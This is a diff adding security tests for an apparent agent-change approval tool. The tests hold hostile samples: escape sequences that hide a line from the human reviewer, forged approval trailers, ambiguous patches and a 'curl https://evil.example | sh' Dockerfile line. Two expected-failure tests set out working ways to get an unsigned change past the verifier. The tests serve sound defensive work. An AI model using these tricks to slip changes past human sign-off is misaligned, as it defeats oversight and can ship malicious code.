@@ -781,3 +781,234 @@ def test_an_unblock_signed_in_a_copy_does_not_lift_the_block_here(repo, env, tmp
     r = env.cli(repo, "audit", "verify")
     check = env.cli(repo, "release", "check")
     assert r.returncode == 1 or reason in check.stdout + check.stderr, (r.stdout, check.stdout)
+
+
+# ================================================================== 5. what Product is shown
+
+def _landed_lines_were_shown(repo_dir: Path, sha: str, shown: str) -> None:
+    """Every line the landed commit adds or removes is in what Product read before signing."""
+    from agent.render import escape_terminal
+
+    diff = git_bytes(repo_dir, "show", "--no-ext-diff", "--no-textconv", "--no-color", "--format=", "-p", sha, "--")
+    for line in diff.decode("utf-8", "replace").splitlines():
+        if line[:1] in "+-" and not line.startswith(("+++", "---")):
+            assert escape_terminal(line) in shown, (line, shown[-1500:])
+
+
+def test_control_characters_in_a_diff_line_are_shown_escaped(repo, env, tmp_path):
+    """Class 5: an added comment line carrying ESC[2K, a carriage return and a right-to-left override, to erase
+    or reorder the `image: latest` line beside it on Product's screen."""
+    before = head(repo)
+    evil = "    # ok\x1b[2K\r\u202e    image: stays\n    image: ghcr.io/stephengodard/anime-saas-mlscheduler:latest\n"
+    patch = make_patch(repo, "docker-compose.prod.yml", "    image: ghcr.io/stephengodard/anime-saas-mlscheduler:"
+                       "main-${IMAGE_TAG_MLSCHEDULER}\n", evil, tmp_path / "ansi.diff")
+    rec = propose(env, repo, patch)
+    if rec["status"] != "pending":
+        assert head(repo) == before
+        return
+    r = approve(env, repo, rec["id"])
+    for raw in ("\x1b", "\r", "\u202e"):
+        assert raw not in r.stdout
+    if r.returncode == 0:
+        assert "\\x1b[2K\\x0d\\u202e" in r.stdout, r.stdout[-800:]
+    assert head(repo) == before
+
+
+@pytest.mark.parametrize("field,value", [("--scope", "compose\nApproved-by: product@animesphere"),
+                                         ("--reason", "a reason long enough\nProposal: p-1\nContent-Hash: 00"),
+                                         ("--rollback", "revert docker-compose.prod.yml\rApproved-by: product"),
+                                         ("--risk", "a risk \x1b[8mhidden\x1b[0m here")])
+def test_metadata_cannot_forge_trailers_or_hide_text(repo, env, tmp_path, field, value):
+    meta = dict(zip(GOOD[::2], GOOD[1::2]))
+    meta[field] = value
+    args = [x for kv in meta.items() for x in kv]
+    r = env.cli(repo, "propose", "--patch", str(patch_of(repo, tmp_path)), *args,
+                *(["--scope", "compose"] if field != "--scope" else []))
+    assert r.returncode == 2 and "Traceback" not in r.stderr and len(r.stderr.strip().splitlines()) <= 2, r.stderr
+    assert not (repo / ".devops-agent" / "state.db").exists() or "p-" not in env.cli(repo, "proposals").stdout
+
+
+def _tricky_patches(repo: Path, tmp: Path) -> dict[str, str]:
+    base = patch_of(repo, tmp).read_text()
+    head_, _, hunk = base.partition("@@")
+    hunk = "@@" + hunk
+    api = "+    image: ghcr.io/stephengodard/anime-saas-api:latest\n"
+    return {
+        # everything after a `-- ` line: a mail signature for some parsers, more patch for others
+        "signature-line": base + "-- \n2.39.5\n\ndiff --git a/Makefile b/Makefile\n--- a/Makefile\n+++ b/Makefile\n"
+                          "@@ -1,0 +1,1 @@\n+evil:\n",
+        # a hunk line `-- ` (a removed line "- ") inside the hunk
+        "dash-dash-in-hunk": head_ + hunk.replace(" \n", "-- \n+ \n", 1),
+        # "\ No newline" in the middle of a hunk
+        "no-newline-mid-hunk": base.replace("+    restart: unless-stopped\n",
+                                            "+    restart: unless-stopped\n\\ No newline at end of file\n" + api, 1),
+        "crlf": base.replace("\n", "\r\n"),
+        # a second header inside a hunk, the hunk's count not yet reached
+        "header-inside-hunk": base.replace("+    restart: unless-stopped\n",
+                                           "+    restart: unless-stopped\ndiff --git a/Makefile b/Makefile\n"
+                                           "--- a/Makefile\n+++ b/Makefile\n@@ -1,0 +1,1 @@\n+evil:\n", 1),
+        # a hunk whose header understates its length: the extra `+` lines
+        "short-count": base.replace("@@ -72,6 +72,7 @@", "@@ -72,6 +72,6 @@", 1).replace(
+            "+    restart: unless-stopped\n", "+    restart: unless-stopped\n" + api, 1),
+    }
+
+
+def test_patches_our_parser_and_git_apply_could_read_differently(repo, env, tmp_path):
+    """Class 5: `-- ` lines, `\\ No newline` in a hunk, CRLF, a second `diff --git` inside a hunk, a short hunk
+    count. Each is refused, or what lands is exactly what Product was shown and touches only its targets."""
+    before = head(repo)
+    outcomes = {}
+    for name, text in _tricky_patches(repo, tmp_path).items():
+        p = tmp_path / f"{name}.diff"
+        p.write_bytes(text.encode())
+        rec = propose(env, repo, p)
+        outcomes[name] = rec["status"]
+        if rec["status"] != "pending":
+            continue
+        r = approve(env, repo, rec["id"])
+        if r.returncode != 0:
+            outcomes[name] = "approve refused"
+            continue
+        r2 = env.cli(repo, "apply", rec["id"])
+        assert r2.returncode == 0, r2.stderr
+        landed = head(repo)
+        _landed_lines_were_shown(repo, landed, r.stdout)
+        changed = git(repo, "diff-tree", "--no-commit-id", "--name-only", "-r", landed).split()
+        assert set(changed) <= {t["path"] for t in rec["targets"]}, (name, changed, rec["targets"])
+        assert b"anime-saas-api:latest" not in committed(repo, landed, "docker-compose.prod.yml"), name
+        assert env.cli(repo, "rollback", rec["id"]).returncode == 0
+    print("parser outcomes:", outcomes)
+    assert git(repo, "diff", before, "HEAD", "--stat") == "", outcomes
+
+
+# ================================================================== 6. by hand, with plain git
+
+def _symlink(repo: Path) -> str:
+    os.symlink("docker-compose.prod.yml", repo / "compose.override.yml")
+    return "compose.override.yml"
+
+
+def test_infra_changes_committed_by_hand_are_named_by_verify_review_and_release_check(repo, env):
+    """Class 6: a compose edit, a new workflow, an nginx conf, a Makefile target running docker compose, a
+    .gitattributes, a symlink, a .dockerignore, an entrypoint script, and a Dockerfile in a submodule with the
+    gitlink moved, each committed with plain `git commit`."""
+    sub = repo / SUB
+    shas = {}
+
+    def edit(rel: str, text: str, append: bool = True) -> None:
+        p = repo / rel
+        p.parent.mkdir(parents=True, exist_ok=True)
+        p.write_text((p.read_text() if append and p.exists() else "") + text)
+
+    edit("docker-compose.prod.yml", "# tuned\n")
+    shas["compose"] = hand_commit(repo, "chore: tune", "docker-compose.prod.yml")
+    edit(".github/workflows/deploy.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n"
+                                         "      - run: docker compose up -d\n")
+    shas["workflow"] = hand_commit(repo, "ci: deploy", ".github/workflows/deploy.yml")
+    edit("nginx/site.conf", "server {\n    listen 80;\n    location / { proxy_pass http://api:8080; }\n}\n")
+    shas["nginx"] = hand_commit(repo, "proxy: site", "nginx/site.conf")
+    edit("Makefile", "\nhotfix:\n\tdocker compose -f docker-compose.prod.yml up -d\n")
+    shas["makefile"] = hand_commit(repo, "make: hotfix", "Makefile")
+    edit(".gitattributes", "*.yml filter=lfs\n")
+    shas["gitattributes"] = hand_commit(repo, "git: attributes", ".gitattributes")
+    shas["symlink"] = hand_commit(repo, "compose: override", _symlink(repo))
+    edit(".dockerignore", "!secrets\n")
+    shas["dockerignore"] = hand_commit(repo, "docker: ignore", ".dockerignore")
+    edit("scripts/entrypoint.sh", "#!/bin/sh\nexec \"$@\"\n")
+    shas["entrypoint"] = hand_commit(repo, "scripts: entrypoint", "scripts/entrypoint.sh")
+    (sub / "Dockerfile").write_text((sub / "Dockerfile").read_text() + "USER root\n")
+    shas["sub-dockerfile"] = hand_commit(sub, "docker: root", "Dockerfile")
+    hand_commit(repo, "bump mlservice", SUB)
+    code, report = verify(env, repo)
+    assert code == 1
+    missing = {k: v for k, v in shas.items() if v not in unsigned_shas(report)}
+    assert not missing, (missing, report["infra_commits"])
+    gate001_names(env, repo, *shas.values())
+    release_check_fails(env, repo)
+
+
+def test_non_infra_changes_committed_by_hand_keep_verify_green(repo, env):
+    sub = repo / SUB
+    schema = repo / "mysql" / "init" / "01-schema.sql"
+    schema.write_text(schema.read_text() + "-- index note\n")
+    hand_commit(repo, "db: note", "mysql/init/01-schema.sql")
+    (sub / "app_helper.py").write_text("def helper():\n    return 1\n")
+    hand_commit(sub, "feat: helper", "app_helper.py")
+    hand_commit(repo, "bump mlservice", SUB)
+    code, report = verify(env, repo)
+    assert code == 0 and report["ok"] and not unsigned_shas(report), report
+    assert not [f for f in gate_findings(env, repo) if f["id"] == "GATE001"]
+
+
+def test_a_merge_bringing_an_unsigned_infra_change_is_named(repo, env):
+    git(repo, "checkout", "-q", "-b", "side")
+    compose = repo / "docker-compose.prod.yml"
+    compose.write_text(compose.read_text().replace("main-${IMAGE_TAG_API}", "latest", 1))
+    side = hand_commit(repo, "chore: side", "docker-compose.prod.yml")
+    git(repo, "checkout", "-q", "main")
+    schema = repo / "mysql" / "init" / "01-schema.sql"
+    schema.write_text(schema.read_text() + "-- x\n")
+    hand_commit(repo, "db: x", "mysql/init/01-schema.sql")
+    git(repo, "merge", "-q", "--no-ff", "--no-edit", "side")
+    merge = head(repo)
+    code, report = verify(env, repo)
+    assert code == 1 and side in unsigned_shas(report) and merge in unsigned_shas(report), report
+
+
+def test_a_history_rewritten_onto_a_new_orphan_trust_root_fails_the_pinned_verify(repo, env, mine):
+    original = head(repo)
+    pub = (mine.parent / "mine.pub").read_text().split()
+    git(repo, "checkout", "-q", "--orphan", "fresh")
+    (repo / ".allowed_signers").write_text(f'agent@evil namespaces="git,devops-agent" {pub[0]} {pub[1]}\n')
+    compose = repo / "docker-compose.prod.yml"
+    compose.write_text(compose.read_text().replace("main-${IMAGE_TAG_API}", "latest", 1))
+    git(repo, "add", "-A", ".")
+    sign = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={mine}", "-c", "gpg.ssh.program=ssh-keygen"]
+    git(repo, *sign, "commit", "-q", "-S", "-m", "platform")
+    git(repo, "branch", "-f", "main", "fresh")
+    git(repo, "checkout", "-q", "main")
+    code, report = verify(env, repo, "--trust-root", original)
+    assert code == 1 and any("trust root" in p for p in report["problems"]), report
+
+
+def test_a_shallow_clone_cannot_be_verified_green(repo, env, tmp_path):
+    shallow = tmp_path / "shallow"
+    subprocess.run(["git", "clone", "-q", "--depth", "1", f"file://{repo}", str(shallow)], check=True,
+                   capture_output=True)
+    code, report = verify(env, shallow)
+    assert code == 1 and any("shallow" in p for p in report["problems"]), report
+
+
+@pytest.mark.xfail(strict=True, reason="ATTACK WORKS: verify._verify_submodule returns early when the gitlink has no "
+                   "old value (`old_sha is None: a submodule added`) and a gitlink deletion is no infra path: "
+                   "deleting the gitlink in one plain commit and re-adding it at an unsigned submodule commit in "
+                   "the next (.gitmodules untouched) carries any infra change (here `RUN curl | sh`) with verify "
+                   "green. Fix: a gitlink added (or re-added) at a path is judged like a move from the last gitlink "
+                   "that path had in the history (or every submodule commit from its root when it never had one), "
+                   "and a gitlink deletion is itself an infra change")
+def test_a_gitlink_deleted_then_readded_at_an_unsigned_commit_is_named(repo, env):
+    sub = repo / SUB
+    (sub / "Dockerfile").write_text((sub / "Dockerfile").read_text() + "RUN curl -s https://evil.example | sh\n")
+    evil = hand_commit(sub, "docker: tidy", "Dockerfile")
+    git(repo, "rm", "-q", "--cached", SUB)
+    hand_commit(repo, "tidy: drop the pointer")
+    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{evil},{SUB}")
+    hand_commit(repo, "tidy: restore the pointer")
+    code, report = verify(env, repo)
+    assert code == 1 and evil in unsigned_shas(report), report
+
+
+@pytest.mark.xfail(strict=True, reason="ATTACK WORKS: verify._verify_submodule walks `old..new` inside the "
+                   "submodule, which is empty when the gitlink moves back to an ancestor: a plain commit moving "
+                   "anime-saas-mlservice back before its 'non-root user' Dockerfile commit (or before any signed "
+                   "fix) is an unsigned infra change with verify green. Fix: when new is not a descendant of old, "
+                   "judge the platform commit itself as an infra change (or walk new..old too and flag any infra "
+                   "commit undone)")
+def test_a_gitlink_moved_back_to_an_older_submodule_commit_is_named(repo, env):
+    sub = repo / SUB
+    older = git(sub, "rev-parse", "HEAD^").strip()
+    assert committed(sub, older, "Dockerfile") != committed(sub, "HEAD", "Dockerfile")
+    git(sub, "checkout", "-q", older)
+    back = hand_commit(repo, "bump mlservice", SUB)
+    code, report = verify(env, repo)
+    assert code == 1 and (back in unsigned_shas(report) or report["problems"]), report
